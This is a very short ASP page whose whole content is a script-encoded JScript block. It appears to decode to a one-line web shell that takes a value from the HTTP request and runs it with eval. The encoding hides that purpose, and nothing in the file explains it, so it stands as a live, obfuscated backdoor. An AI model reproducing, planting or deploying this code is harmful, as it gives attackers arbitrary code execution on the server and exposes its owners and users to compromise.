<%@ LANGUAGE = JScript.Encode %>
<%#@~^SgAAAA==@#@&\CMP0P',I5E/OR&YnhvJ3rbP3PJrI@#@&b0,`VRsn	oOt,@*PZ#~`,+\Csv3bi,N@#@&JhIAAA==^#~@%>
